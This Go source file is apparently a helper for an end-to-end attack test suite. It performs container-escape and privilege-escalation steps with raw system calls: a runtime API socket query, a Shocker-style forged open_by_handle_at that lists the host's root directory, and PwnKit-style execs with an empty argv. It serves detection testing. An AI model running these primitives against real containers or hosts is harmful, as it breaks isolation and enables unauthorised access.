// Command escape performs, with raw system calls, the steps of container
// escapes and local privilege escalations that no packaged tool performs
// alone, for the attack suite (test/e2e/rules). It is built static so that
// it runs in the suite's busybox image as well as on the host. Every
// action ignores further arguments, where the suite puts its marker.
//
// Usage:
//
//	escape runtime-api SOCKET      GET /version from a container runtime's API socket
//	escape open-by-handle FILE     open_by_handle_at the root of FILE's file system (Shocker)
//	escape exec-without-argv PROG  execve PROG with an empty argv (PwnKit)
//	escape execveat-empty PROG     execveat of an fd of PROG with AT_EMPTY_PATH and argv {""}
package main

import (
	"bufio"
	"errors"
	"fmt"
	"net"
	"os"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 3 {
		fmt.Fprintln(os.Stderr, "usage: escape ACTION ARG [ignored...]")
		os.Exit(2)
	}
	if err := run(os.Args[1], os.Args[2]); err != nil {
		fmt.Fprintln(os.Stderr, "escape:", err)
		os.Exit(1)
	}
}

func run(action, arg string) error {
	switch action {
	case "runtime-api":
		return runtimeVersion(arg)
	case "open-by-handle":
		return openByHandle(arg)
	case "exec-without-argv":
		return syscall.Exec(arg, []string{}, os.Environ())
	case "execveat-empty":
		return execveatEmpty(arg)
	}
	return fmt.Errorf("unknown action %q", action)
}

// runtimeVersion asks the runtime behind socket for its version over
// HTTP, as a client does before it creates a container, and prints the
// status line of the answer.
func runtimeVersion(socket string) error {
	c, err := net.DialTimeout("unix", socket, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close() //nolint:errcheck // what was written is checked by Fprint: closing loses nothing
	if err := c.SetDeadline(time.Now().Add(5 * time.Second)); err != nil {
		return err
	}
	if _, err := fmt.Fprint(c, "GET /version HTTP/1.0\r\nHost: docker\r\n\r\n"); err != nil {
		return err
	}
	status, err := bufio.NewReader(c).ReadString('\n')
	if err != nil {
		return err
	}
	fmt.Print(status)
	return nil
}

// openByHandle opens, by a forged handle, the root directory (inode 2 of
// ext2/3/4) of the file system that holds file, and lists a few of its
// names, as the Shocker escape does from a container with
// CAP_DAC_READ_SEARCH: file is one the runtime bind-mounts from the host
// (/etc/hostname), so the directory is the host's, outside the
// container's root. Shocker guesses handles without name_to_handle_at,
// which Docker's seccomp profile leaves to CAP_SYS_ADMIN.
func openByHandle(file string) error {
	mount, err := unix.Open(file, unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(mount)
	// FILEID_INO32_GEN: a 32-bit inode number and generation.
	const fileIDIno32Gen = 1
	h := unix.NewFileHandle(fileIDIno32Gen, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	fd, err := unix.OpenByHandleAt(mount, h, unix.O_RDONLY|unix.O_DIRECTORY)
	if err != nil {
		return fmt.Errorf("open_by_handle_at: %w", err)
	}
	dir := os.NewFile(uintptr(fd), "handle")
	defer dir.Close() //nolint:errcheck // a directory handle: closing loses nothing
	names, err := dir.Readdirnames(8)
	if err != nil {
		return err
	}
	fmt.Println("the host's root holds", names)
	return nil
}

// execveatEmpty executes prog from a file descriptor, with no path
// (AT_EMPTY_PATH) and an argv of one empty string.
func execveatEmpty(prog string) error {
	fd, err := unix.Open(prog, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	empty, err := unix.BytePtrFromString("")
	if err != nil {
		return err
	}
	argv := []*byte{empty, nil}
	envv, err := syscall.SlicePtrFromStrings(os.Environ())
	if err != nil {
		return err
	}
	_, _, errno := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(empty)),
		uintptr(unsafe.Pointer(&argv[0])), uintptr(unsafe.Pointer(&envv[0])), unix.AT_EMPTY_PATH, 0)
	return errors.New("execveat: " + errno.Error())
}
